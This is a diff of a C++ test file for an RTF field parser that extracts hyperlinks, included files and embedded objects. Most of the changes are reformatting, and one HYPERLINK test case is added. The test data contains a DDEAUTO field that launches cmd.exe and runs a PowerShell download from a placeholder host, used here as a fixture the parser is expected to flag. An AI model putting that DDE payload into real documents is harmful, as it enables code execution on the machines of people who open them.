@@ -104,10 +104,12 @@ TEST_CASE("fields") {
        "rtf:include (field 1) \\\\host\\x.doc\n"},
       {R"({\field{\*\fldinst LINK Word.Document.8 "http://a/x.doc" "" \\a \\f 0}{\fldrslt x}})",
        "rtf:object (field 1) http://a/x.doc\n"},
-      {R"({\field{\*\fldinst DDEAUTO Excel "C:\\\\x.xls" R1C1}{\fldrslt x}})", "rtf:object (field 1) C:\\x.xls\n"},
+      {R"({\field{\*\fldinst DDEAUTO Excel "C:\\\\x.xls" R1C1}{\fldrslt x}})",
+       "rtf:object (field 1) C:\\x.xls\n"},
       {R"({\field{\*\fldinst DDEAUTO c:\\\\cmd.exe "/k powershell iwr 'http://a/x'"}{\fldrslt x}})",
        "rtf:object (field 1) http://a/x\n"},
-      {R"({\field{\*\fldinst DATABASE \\d "http://a/x.mdb" \\c "DSN=x"}})", "rtf:include (field 1) http://a/x.mdb\n"},
+      {R"({\field{\*\fldinst DATABASE \\d "http://a/x.mdb" \\c "DSN=x"}})",
+       "rtf:include (field 1) http://a/x.mdb\n"},
       {R"({\field{\*\fldinst PAGE}{\fldrslt 1}}{\field{\*\fldinst HYPERLINK "a"}{\fldrslt x}})",
        "rtf:hyperlink (field 2) a [x]\n"},
       {R"({\field{\*\fldinst HYPERLINK}{\fldrslt x}}{\field}{\field{\fldrslt x}}{\field{\*\fldinst}})", ""},
@@ -125,11 +127,11 @@ TEST_CASE("fields") {
       {R"({\*\unknown{\field{\*\fldinst HYPERLINK "http://a/"}}})", ""},
       {R"({\header {\field{\*\fldinst HYPERLINK "http://a/"}{\fldrslt x}}})",
        "rtf:hyperlink (field 1) http://a/ [x]\n"},
-};
-for (const Row& row : kRows) {
-  CAPTURE(row.rtf);
-  CHECK(found_in(row.rtf) == row.found);
-}
+  };
+  for (const Row& row : kRows) {
+    CAPTURE(row.rtf);
+    CHECK(found_in(row.rtf) == row.found);
+  }
 }
 
 TEST_CASE("hyperlinks whose instruction has no URL have one in their data") {
@@ -269,6 +271,7 @@ TEST_CASE("codes of fields") {
       {"HYPERLINK \u201Ca\u201D", "HYPERLINK", "a|"},
       {"HYPERLINK \"a", "HYPERLINK", "a|"},
       {"HYPERLINK \\\\\\\\h\\\\x", "HYPERLINK", "\\\\h\\x|"},
+      {"HYPERLINK \"a?\\{b\\}\"", "HYPERLINK", "a?{b}|"},
       {"HYPERLINK a\\b", "HYPERLINK", "a\\b|"},
       {"HYPERLINK \\o \\t _top a", "HYPERLINK", "a|"},
       {"HYPERLINK \\n a \\o", "HYPERLINK", "a|"},
